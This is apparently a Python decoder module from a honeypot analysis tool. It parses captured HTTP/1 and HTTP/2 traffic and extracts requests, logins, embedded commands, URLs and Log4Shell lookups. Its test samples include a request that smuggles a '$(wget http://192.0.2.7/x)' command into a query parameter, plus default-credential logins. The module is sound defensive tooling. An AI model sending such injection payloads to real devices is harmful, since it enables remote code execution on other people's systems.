"""HTTP/1: what was asked for, by whom, with which logins, commands and downloads inside, and what the honeypot answered."""

import base64
import binascii
import re
from urllib.parse import unquote

from honeyguide.schema.words import Words
from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.embedded import commands, logins, pairs, texts, unquoted, urls
from honeyguide.streams.http_message import METHODS, Head, read_body, read_head
from honeyguide.streams.log4shell import command, find_lookup
from honeyguide.streams.protocol import Decoded, Protocol, Sample
from honeyguide.streams.reader import KEPT, Reader, Stop, plain, quoted
from honeyguide.streams.walk import Told, decoded

_METHOD = re.compile(rb"[!#$%&'*+.^_`|~0-9A-Za-z-]{1,32}")
_VERSION = re.compile(rb"HTTP/?(\d?\.?\d?)")
_ANSWER = re.compile(rb"HTTP/\d")
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
"""How an HTTP/2 connection begins (RFC 9113, 3.4)."""
_FRAMES = {
    0: "DATA",
    1: "HEADERS",
    2: "PRIORITY",
    3: "RST_STREAM",
    4: "SETTINGS",
    5: "PUSH_PROMISE",
    6: "PING",
    7: "GOAWAY",
    8: "WINDOW_UPDATE",
}
_SSDP = (b"M-SEARCH", b"NOTIFY")
_FILE = re.compile(rb'filename="([^"\r\n]{1,300})"')
_PARAMETER = re.compile(r'(\w{1,20})="([^"]{0,300})"')
_SOAP = re.compile(rb"<(?:\w+:)?(\w{1,60})[^>]{0,400}>([^<]{1,2000})</")


def sniff(conversation: Conversation) -> float:
    """A request line with HTTP's version; less sure without a version, or where only the answer is HTTP."""
    head = conversation.inbound[:70000].lstrip(b"\r\n \t\0")
    if line := request_line(head):
        method, _, version = line
        if method.encode() in _SSDP:
            return 0.6
        return 0.8 if version == "0.9" else 0.98 if method in METHODS else 0.9
    if _ANSWER.match(head):
        return 0.9
    if _ANSWER.match(conversation.outbound):
        return 0.7 if head[:4] in (b"GET ", b"POST") else 0.55 if not head else 0.0
    return 0.75 if head.startswith((b"GET /", b"POST /", b"HEAD /", b"GET http://")) else 0.0


def request_line(data: bytes, at: int = 0) -> tuple[str, str, str] | None:
    """Method, target and version of the request line that begins at `at`; version 0.9 where it has none; None where it is no request."""
    line = data[at : at + 65536].partition(b"\n")[0].strip(b"\r \t")
    method, space, rest = line.partition(b" ")
    if not space or not _METHOD.fullmatch(method):
        return None
    target, _, last = rest.rpartition(b" ")
    if version := _VERSION.fullmatch(last):
        return plain(method), plain(target.strip()), plain(version[1])
    if method in (b"GET", b"HEAD", b"POST") and rest.startswith(b"/") and b" " not in rest.strip():
        return plain(method), plain(rest.strip()), "0.9"
    return None


def decode(conversation: Conversation) -> Decoded:
    """Requests with targets, headers, bodies, logins and what hides in them; answers with status and size."""
    return decoded("http", conversation, _message, "HTTP")


def _message(reader: Reader, told: Told) -> str:
    if reader.data.startswith(_PREFACE, reader.at):
        reader.raw("preface", len(_PREFACE))
        told.state["http2"] = True
        told.fields["http.version"] = "2"
        told.point("connection preface of HTTP/2")
        return "PRI * HTTP/2.0"
    if told.state.get("http2") and reader.direction == "in":
        return _frame(reader)
    blank = len(reader.peek(64)) - len(reader.peek(64).lstrip(b"\r\n"))
    if blank:
        reader.raw("empty lines", blank)
        if not reader.left:
            return "empty lines"
    if reader.direction == "out" or _ANSWER.match(reader.data, reader.at):
        return _answer(reader, told)
    return _request(reader, told)


def _frame(reader: Reader) -> str:
    size = reader.number("length", 3)
    kind = reader.u8("type", _FRAMES)
    reader.u8("flags")
    reader.u32("stream")
    reader.frame(size)
    reader.hexed("payload", reader.left)
    return f"frame {_FRAMES.get(kind, kind)} of {size} bytes"


def _answer(reader: Reader, told: Told) -> str:
    if not _ANSWER.match(reader.data, reader.at):
        reader.rest("text")
        return "an answer that is no HTTP"
    head = read_head(reader)
    pieces = head.first.split(" ", 2)
    body = read_body(reader, head, to_the_end=True)
    if len(pieces) > 1 and pieces[1].isascii() and pieces[1].isdigit() and len(pieces[1]) == 3:
        told.fields.setdefault("http.response.status_code", int(pieces[1]))
        told.fields.setdefault("http.response.body.bytes", len(body))
    return head.first


def _request(reader: Reader, told: Told) -> str:
    found = request_line(reader.data, reader.at)
    if not found and told.state.get("asked"):
        reader.rest("text")
        raise Stop("more bytes, and no further request")
    told.state["asked"] = True
    start = reader.at
    head = read_head(reader)
    body = read_body(reader, head, to_the_end=False)
    if lookup := find_lookup(reader.data[start : reader.at]):
        told.urls.append(lookup.target)
        if asked := command(lookup.target):
            told.commands.append(asked)
            told.urls += urls(asked.encode())
    method, target, version = found or (*head.first.partition(" ")[::2], "")
    line = f"{method} {target}" + (f" HTTP/{version}" if version not in ("", "0.9") else "")
    agent = head.get("user-agent")
    told.point(quoted(line, 130) + (f" by '{quoted(agent, 50)}'" if agent else ""))
    _about(method, target, version, head, told)
    _inside(target, head, body, told)
    return quoted(line)


def _about(method: str, target: str, version: str, head: Head, told: Told) -> None:
    path, _, query = target.partition("?")
    host = head.get("host")
    values: dict[str, str] = {
        "http.request.method": method,
        "url.original": target[:KEPT],
        "url.path": path[:KEPT],
        "url.query": query[:KEPT],
        "http.version": version,
        "user_agent.original": head.get("user-agent"),
        "http.request.referrer": head.get("referer"),
        "http.request.mime_type": head.get("content-type").partition(";")[0].strip(),
        "url.domain": host.rpartition(":")[0] or host,
    }
    if "http.request.method" not in told.fields:
        told.fields.update({name: value for name, value in values.items() if value})
    if target and target not in ("/", "*"):
        told.urls.append(target)
    told.operations.append(method)


def _inside(target: str, head: Head, body: bytes, told: Told) -> None:
    """Logins, commands, files and addresses in the target, the headers and the body."""
    if body and "http.request.body.bytes" not in told.fields:
        told.fields["http.request.body.bytes"] = len(body)
        told.fields["http.request.body.content"] = plain(body)
    kind, _, secret = head.get("authorization").partition(" ")
    if kind.lower() == "basic":
        try:
            user, _, password = plain(base64.b64decode(secret, validate=True)).partition(":")
            told.login(user, password)
        except (binascii.Error, ValueError):
            told.login("", secret)
    elif kind.lower() == "digest":
        parts = dict(_PARAMETER.findall(secret[:KEPT]))
        told.login(parts.get("username", ""), parts.get("response", ""), "digest")
    elif kind.lower() in ("bearer", "ntlm", "negotiate"):
        told.login("", secret, kind.lower())
    fields = pairs(target.partition("?")[2].encode())
    if "form" in head.get("content-type").lower() or (body and body.lstrip()[:1] not in b"<{[-\0" and b"=" in body[:200]):
        fields += pairs(body)
    elif body.lstrip()[:1] == b"<":
        fields += [(plain(name), plain(value)) for name, value in _SOAP.findall(body[: 64 << 10])[:100]]
    elif body.lstrip()[:1] in (b"{", b"["):
        fields += texts(body)
    for user, password in logins(fields):
        told.login(user, password)
        told.point(f"login '{quoted(user, 40)}' / '{quoted(password, 40)}'")
    others = [(name, head.headers[name]) for name in head.headers]
    whole = [] if fields else [("", plain(unquoted(target.partition("?")[2].encode())))]
    for line in commands([*fields, *others, ("", unquote(target.partition("?")[0])), *whole]):
        told.commands.append(line)
    told.files += [plain(name) for name in _FILE.findall(body[: 256 << 10])[:50]]
    searched = (
        unquoted(target.encode()) + b"\n" + b"\n".join(value.encode() for name, value in others if name not in ("user-agent", "referer"))
    )
    told.urls += urls(searched) + urls(body)


_GET = (
    b"GET /set.cgi?user=admin&pwd=1234&svr=%24%28wget+http%3A%2F%2F192.0.2.7%2Fx%29 HTTP/1.1\r\n"
    b"Host: 192.0.2.1:81\r\nUser-Agent: probe/1\r\n\r\n"
)
_POST = (
    b"POST /login HTTP/1.0\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 17\r\n\r\n"
)
_OK = b"HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Length: 2\r\n\r\nno"

PROTOCOL = Protocol(
    name="http",
    title=Words("HTTP", "HTTP"),
    sniff=sniff,
    decode=decode,
    samples=(
        Sample(
            Conversation((Turn("in", _GET), Turn("out", _OK))),
            "GET /set.cgi?user=admin&pwd=1234",
            {
                "http.request.method": "GET",
                "url.path": "/set.cgi",
                "url.domain": "192.0.2.1",
                "http.version": "1.1",
                "user_agent.original": "probe/1",
                "http.response.status_code": 404,
                "http.response.body.bytes": 2,
            },
        ),
        Sample(
            Conversation((Turn("in", _POST + b"log=root&pwd=root"),)),
            "POST /login HTTP/1.0, login 'root' / 'root'",
            {"http.request.body.bytes": 17, "http.request.body.content": "log=root&pwd=root"},
        ),
        Sample(Conversation((Turn("in", b"GET login.cgi HTTP/1.1\r\n\r\n"),)), "GET login.cgi HTTP/1.1", {"url.original": "login.cgi"}),
        Sample(Conversation((Turn("in", b"GET /\r\n"),)), "GET /", {"http.version": "0.9"}),
        Sample(
            Conversation(
                (Turn("in", b"POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),)
            ),
            "POST /a HTTP/1.1, GET /b HTTP/1.1",
            {"http.request.body.content": "abc"},
        ),
        Sample(Conversation((Turn("in", _PREFACE + b"\0\0\0\4\0\0\0\0\0"),)), "connection preface of HTTP/2", {"http.version": "2"}),
    ),
    ports=(80, 81, 443, 8000, 8080, 8443, 8888),
    source="RFC 9112; RFC 1945 for HTTP/0.9; RFC 9113, 3.4",
)
